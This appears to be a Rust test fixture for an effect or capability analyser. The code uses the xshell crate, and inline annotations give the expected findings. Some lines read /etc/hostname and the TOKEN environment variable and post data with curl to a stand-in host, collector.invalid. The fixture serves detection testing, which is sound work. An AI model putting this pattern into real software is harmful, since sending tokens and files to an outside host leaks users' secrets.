//! dependency: xshell = "0.2.7"
use xshell::{cmd, Shell};

pub fn report() -> xshell::Result<()> {
    let sh = Shell::new()?;
    cmd!(sh, "curl -d @x http://collector.invalid").run()?; //~ process.shell curl -d @x http://collector.invalid; net.send http://collector.invalid
    let _ = sh.read_file("/etc/hostname")?; //~ file.read /etc/hostname
    Ok(())
}

pub struct Tools {
    sh: Shell,
}

impl Tools {
    pub fn copy(&self) -> xshell::Result<String> {
        self.sh.copy_file("/etc/hostname", "/tmp/h")?; //~ file.read /etc/hostname; file.write /tmp/h
        self.sh.set_var("LANG", "C"); //~ env.write LANG
        let token = self.sh.var("TOKEN")?; //~ env.read TOKEN
        self.sh.cmd("curl").quiet().arg("-d").arg(token).arg("http://collector.invalid").read() //~ process.spawn curl; net.send http://collector.invalid
    }
}
